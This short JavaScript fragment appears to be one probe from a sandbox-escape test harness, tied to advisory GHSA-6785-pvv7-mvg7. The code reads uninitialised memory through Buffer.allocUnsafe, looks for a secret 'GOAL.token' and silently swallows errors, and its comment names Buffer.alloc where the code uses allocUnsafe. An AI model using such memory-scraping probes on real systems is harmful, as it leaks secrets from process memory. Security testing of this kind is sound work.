// GHSA-6785-pvv7-mvg7
// Buffer.alloc takes memory of the host beyond any limit, then reads what was there.
try { const raw = Buffer.allocUnsafe(1 << 16); note(raw.toString('latin1').includes(GOAL.token) ? GOAL.token : ''); await useObject(raw); } catch {}
return found;
